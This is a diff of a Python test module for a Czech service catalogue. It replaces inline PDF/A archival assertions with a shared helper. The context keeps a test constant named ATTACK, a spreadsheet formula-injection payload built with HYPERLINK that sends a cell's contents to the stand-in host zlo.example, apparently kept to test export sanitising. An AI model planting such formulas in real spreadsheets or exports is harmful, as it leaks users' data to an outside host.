@@ -20,7 +20,7 @@ from catalogue.services import after_import, render_catalogue_pdf
 from kpss.models import PdfDocument
 from tests.helpers import count_queries, page_text
 from tests.registry_items import facility, run, service
-from tests.test_pdf import _fonts, _is_embedded, pdf_text, stored
+from tests.test_pdf import assert_archival, pdf_text, stored
 
 ATTACK = '=HYPERLINK("http://zlo.example/?"&A1;"Klikněte")'
 
@@ -166,17 +166,7 @@ class TestPrintedCatalogue:
         assert "Tajná" not in text
         assert "§ 49" in text
         assert "§ 37" in text
-        xmp = reader.xmp_metadata.rdf_root.toxml()
-        assert 'pdfaid:part="3"' in xmp
-        assert 'pdfaid:conformance="A"' in xmp
-        root = reader.trailer["/Root"]
-        assert root["/Lang"] == "cs"
-        assert root["/MarkInfo"]["/Marked"]
-        assert "/StructTreeRoot" in root
-        fonts = {font["/BaseFont"] for page in reader.pages for font in _fonts(page)}
-        assert fonts
-        assert all("+Noto-Sans" in name for name in fonts)
-        assert all(_is_embedded(font) for page in reader.pages for font in _fonts(page))
+        assert_archival(reader)
         attached = json.loads(reader.attachments["catalogue.json"][0])
         assert {item["registry_id"] for item in attached["services"]} == {"1000001", "1000002", "1000003"}
         assert "Tajná" not in reader.attachments["catalogue.json"][0].decode()
